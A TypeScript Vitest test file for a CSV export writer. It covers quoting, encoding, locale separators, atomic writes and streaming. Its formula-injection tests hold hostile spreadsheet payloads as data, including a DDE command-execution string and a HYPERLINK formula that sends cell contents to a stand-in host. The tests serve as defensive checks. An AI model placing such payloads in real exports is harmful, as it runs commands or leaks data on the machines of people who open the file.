import { mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { writeCsvFile } from '../../../main/core/export/writer.ts'
import type { CsvCell, CsvColumn } from '../../../main/core/export/writer.ts'
import { readCsv } from './read-csv.ts'

let dir: string
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'csv-writer-'))
})
afterEach(async () => {
  await rm(dir, { recursive: true, force: true })
})

interface Row {
  name: CsvCell
  count?: CsvCell
  ratio?: CsvCell
}

const TEXT_COLUMNS: CsvColumn<Row>[] = [
  { header: 'Name', kind: 'text', value: (row) => row.name },
  { header: 'Count', kind: 'integer', value: (row) => row.count },
  { header: 'Ratio', kind: 'decimal', value: (row) => row.ratio },
]

const AWKWARD = [
  'plain',
  'say "hello"',
  'a,b',
  'a;b',
  'line\nbreak',
  'carriage\rreturn',
  'windows\r\nline',
  '"',
  '""',
  'Licenças',
  'emoji 🚀👩‍💻',
  ' spaced ',
  '',
]

describe('writeCsvFile: RFC 4180 round trip', () => {
  for (const delimiter of [',', ';'] as const) {
    it(`reads back awkward text cell for cell with "${delimiter}"`, async () => {
      const out = join(dir, 'awkward.csv')
      const rows: Row[] = [...AWKWARD.map((name) => ({ name })), { name: null }, { name: undefined }]
      const result = await writeCsvFile(out, TEXT_COLUMNS, rows, { delimiter, locale: 'en-US' })
      const back = await readCsv(out, delimiter)
      expect(back.header).toEqual(['Name', 'Count', 'Ratio'])
      expect(back.rows.map((row) => row[0])).toEqual([...AWKWARD, '', ''])
      expect(result).toEqual({ rows: rows.length, bytes: back.bytes.length })
    })
  }

  it('quotes only fields that need it, doubles quotes and leaves no trailing delimiter', async () => {
    const out = join(dir, 'quoting.csv')
    await writeCsvFile(out, TEXT_COLUMNS, [{ name: 'say "hi"', count: 3, ratio: 0.5 }, { name: 'a,b' }, { name: 'ok' }], {
      delimiter: ',',
      bom: false,
    })
    expect(await readFile(out, 'utf8')).toBe('Name,Count,Ratio\r\n"say ""hi""",3,0.5\r\n"a,b",,\r\nok,,\r\n')
  })

  it('writes a header-only file when there are no rows', async () => {
    const out = join(dir, 'empty.csv')
    const result = await writeCsvFile(out, TEXT_COLUMNS, [], { delimiter: ';' })
    const back = await readCsv(out, ';')
    expect(back.rows).toEqual([])
    expect(result.rows).toBe(0)
  })
})

describe('writeCsvFile: formula injection (OWASP, CWE-1236)', () => {
  const cases = [
    '=1+2";=1+2',
    '@SUM(1+1)',
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://x?"&A1)',
    '\tleading tab',
    '-2+3',
    '\rcr first',
    '\nlf first',
  ]

  for (const delimiter of [',', ';'] as const) {
    it(`prefixes and quotes every dangerous text cell with "${delimiter}"`, async () => {
      const out = join(dir, 'injection.csv')
      await writeCsvFile(
        out,
        TEXT_COLUMNS,
        cases.map((name) => ({ name })),
        { delimiter },
      )
      const back = await readCsv(out, delimiter)
      expect(back.rows.map((row) => row[0])).toEqual(cases.map((text) => `'${text}`))
      // Each case is one quoted field: nothing after an embedded delimiter becomes a cell of its own.
      for (const text of cases) expect(back.text).toContain(`"'${text.replaceAll('"', '""')}"${delimiter}`)
    })
  }

  it('keeps numbers the app produces as numbers, negative ones included', async () => {
    const out = join(dir, 'numbers.csv')
    await writeCsvFile(
      out,
      TEXT_COLUMNS,
      [
        { name: '-3', count: -3, ratio: -1.5 },
        { name: 'x', count: 0, ratio: -0.25 },
      ],
      { locale: 'de' },
    )
    const back = await readCsv(out, ';')
    expect(back.rows).toEqual([
      ["'-3", '-3', '-1,5'],
      ['x', '0', '-0,25'],
    ])
    expect(back.text).toContain(`"'-3";-3;-1,5\r\n`)
  })

  it('neutralises a dangerous header as well', async () => {
    const out = join(dir, 'header.csv')
    await writeCsvFile(out, [{ header: '=cmd', kind: 'text', value: () => 'x' }], [{}], { delimiter: ',' })
    expect((await readCsv(out, ',')).header).toEqual(["'=cmd"])
  })
})

describe('writeCsvFile: encoding, delimiter and decimal separator', () => {
  it('starts with a UTF-8 byte order mark by default and not when turned off', async () => {
    const withBom = join(dir, 'bom.csv')
    const without = join(dir, 'no-bom.csv')
    await writeCsvFile(withBom, TEXT_COLUMNS, [{ name: 'a' }], {})
    await writeCsvFile(without, TEXT_COLUMNS, [{ name: 'a' }], { bom: false })
    expect([...(await readFile(withBom)).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect((await readFile(without)).subarray(0, 4).toString('latin1')).toBe('Name')
  })

  it('keeps non-ASCII header text byte for byte', async () => {
    const out = join(dir, 'licencas.csv')
    await writeCsvFile(out, [{ header: 'Licenças', kind: 'integer', value: () => 4 }], [{}], { locale: 'pt-BR' })
    const bytes = await readFile(out)
    expect(bytes.subarray(0, 14)).toEqual(Buffer.from([0xef, 0xbb, 0xbf, ...Buffer.from('Licenças\r\n', 'utf8')]))
    expect(bytes.subarray(8, 10)).toEqual(Buffer.from([0xc3, 0xa7]))
  })

  for (const locale of ['pt-BR', 'fr', 'de']) {
    it(`uses ";" and a decimal comma for ${locale}`, async () => {
      const out = join(dir, `${locale}.csv`)
      await writeCsvFile(out, TEXT_COLUMNS, [{ name: 'a', count: 1234567, ratio: 1.5 }], { locale })
      const back = await readCsv(out, ';')
      expect(back.header).toEqual(['Name', 'Count', 'Ratio'])
      // No grouping separators: a spreadsheet reads "1234567", not "1.234.567" or "1 234 567".
      expect(back.rows).toEqual([['a', '1234567', '1,5']])
    })
  }

  it('uses "," and a decimal point for en-US', async () => {
    const out = join(dir, 'en.csv')
    await writeCsvFile(out, TEXT_COLUMNS, [{ name: 'a', count: 2, ratio: 1.5 }], { locale: 'en-US' })
    expect((await readFile(out, 'utf8')).slice(1)).toBe('Name,Count,Ratio\r\na,2,1.5\r\n')
  })

  it('lets an explicit delimiter win, and never pairs "," with a decimal comma', async () => {
    const comma = join(dir, 'de-comma.csv')
    const semicolon = join(dir, 'en-semicolon.csv')
    await writeCsvFile(comma, TEXT_COLUMNS, [{ name: 'a', ratio: 1.5 }], { locale: 'de', delimiter: ',' })
    await writeCsvFile(semicolon, TEXT_COLUMNS, [{ name: 'a', ratio: 1.5 }], { locale: 'en-US', delimiter: ';' })
    expect((await readCsv(comma, ',')).rows).toEqual([['a', '', '1.5']])
    expect((await readCsv(semicolon, ';')).rows).toEqual([['a', '', '1.5']])
  })

  it('writes decimals with the digits a column asks for, and never in exponent form', async () => {
    const out = join(dir, 'digits.csv')
    const columns: CsvColumn<{ v: number }>[] = [
      { header: 'Two', kind: 'decimal', digits: 2, value: (row) => row.v },
      { header: 'Free', kind: 'decimal', value: (row) => row.v },
      { header: 'Whole', kind: 'integer', value: (row) => row.v },
    ]
    await writeCsvFile(out, columns, [{ v: 2.456 }, { v: 1e-7 }, { v: 1e21 }], { locale: 'pt-BR' })
    expect((await readCsv(out, ';')).rows).toEqual([
      ['2,46', '2,456', '2'],
      ['0,00', '0,0000001', '0'],
      ['1000000000000000000000,00', '1000000000000000000000', '1000000000000000000000'],
    ])
  })
})

describe('writeCsvFile: bad values never take down the export', () => {
  it('writes a wrong-typed value as neutralised text and a non-finite number as empty', async () => {
    const out = join(dir, 'bad.csv')
    const columns: CsvColumn<{ n: CsvCell; t: CsvCell }>[] = [
      { header: 'N', kind: 'integer', value: (row) => row.n },
      { header: 'T', kind: 'timestamp', value: (row) => row.t },
    ]
    await writeCsvFile(
      out,
      columns,
      [
        { n: '=2', t: 'not a time' },
        { n: Number.NaN, t: new Date(Number.NaN) },
        { n: Infinity, t: null },
      ],
      { delimiter: ',' },
    )
    expect((await readCsv(out, ',')).rows).toEqual([
      ["'=2", 'not a time'],
      ['', ''],
      ['', ''],
    ])
  })
})

describe('writeCsvFile: temporary file and rename', () => {
  function* throwingAfter(count: number): Generator<Row> {
    for (let i = 0; i < count; i++) yield { name: `row ${i}`, count: i }
    throw new Error('history query failed')
  }

  async function* asyncThrowingAfter(count: number): AsyncGenerator<Row> {
    yield* throwingAfter(count)
  }

  it('leaves neither destination nor temporary file when a sync source throws after 1000 rows', async () => {
    const out = join(dir, 'export.csv')
    await expect(writeCsvFile(out, TEXT_COLUMNS, throwingAfter(1000), {})).rejects.toThrow(
      /export to .*export\.csv failed after 1000 rows and was not written: history query failed/,
    )
    expect(await readdir(dir)).toEqual([])
  })

  it('leaves an existing destination byte-identical when an async source throws midway', async () => {
    const out = join(dir, 'export.csv')
    const before = Buffer.from('\uFEFFprevious;export\r\n1;2\r\n', 'utf8')
    await writeFile(out, before)
    await expect(writeCsvFile(out, TEXT_COLUMNS, asyncThrowingAfter(1000), {})).rejects.toThrow(/history query failed/)
    expect(await readFile(out)).toEqual(before)
    expect(await readdir(dir)).toEqual(['export.csv'])
  })

  it('replaces an existing destination only once the new file is complete', async () => {
    const out = join(dir, 'export.csv')
    await writeFile(out, 'old')
    await writeCsvFile(out, TEXT_COLUMNS, [{ name: 'new' }], { delimiter: ',' })
    expect((await readCsv(out, ',')).rows).toEqual([['new', '', '']])
    expect(await readdir(dir)).toEqual(['export.csv'])
  })

  it('rejects with a sentence naming the path when the folder does not exist', async () => {
    const out = join(dir, 'missing', 'export.csv')
    await expect(writeCsvFile(out, TEXT_COLUMNS, [{ name: 'a' }], {})).rejects.toThrow(
      /missing.export\.csv failed after .* and was not written: ENOENT/,
    )
    expect(await readdir(dir)).toEqual([])
  })

  it('refuses an unknown locale, zone or delimiter before creating any file', async () => {
    const out = join(dir, 'export.csv')
    await expect(writeCsvFile(out, TEXT_COLUMNS, [], { locale: 'not a locale!' })).rejects.toThrow(/locale "not a locale!" is not a valid/)
    await expect(writeCsvFile(out, TEXT_COLUMNS, [], { timeZone: 'Mars/Olympus' })).rejects.toThrow(/time zone "Mars\/Olympus"/)
    await expect(writeCsvFile(out, TEXT_COLUMNS, [], { delimiter: '\t' as ',' })).rejects.toThrow(/delimiter must be "," or ";"/)
    expect(await readdir(dir)).toEqual([])
  })
})

describe('writeCsvFile: streaming', () => {
  it('writes to disk while the source is still producing rows', async () => {
    const out = join(dir, 'stream.csv')
    let sizeOnDiskAtRow = -1
    async function* rows(): AsyncGenerator<Row> {
      for (let i = 0; i < 200_000; i++) {
        if (i === 150_000) {
          const temp = (await readdir(dir)).find((name) => name.endsWith('.tmp'))
          sizeOnDiskAtRow = temp === undefined ? -1 : (await stat(join(dir, temp))).size
        }
        yield { name: `machine-${i}`, count: i, ratio: i / 7 }
      }
    }
    const result = await writeCsvFile(out, TEXT_COLUMNS, rows(), { locale: 'en-US' })
    expect(result.rows).toBe(200_000)
    // About 30 bytes a row: by row 150,000 most of the ~4.5 MB produced so far must already be on disk,
    // because the source is only asked for more once the file has taken what it was given.
    expect(sizeOnDiskAtRow).toBeGreaterThan(3_000_000)
    expect(result.bytes).toBe((await stat(out)).size)
  })
})
